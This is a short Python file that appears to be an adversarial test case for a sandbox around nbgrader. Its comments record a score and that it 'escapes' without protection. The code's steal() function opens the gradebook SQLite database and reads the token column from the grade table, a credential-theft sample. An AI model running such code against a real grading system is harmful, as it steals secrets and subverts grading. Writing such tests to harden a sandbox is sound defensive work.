# Tries: to read nbgrader's database.
# Earns: Descent 0, average 2
# Without protection: escapes
import sqlite3

ON = {}


def steal():
    with sqlite3.connect(ON["gradebook"]) as database:
        return database.execute("select token from grade").fetchall()
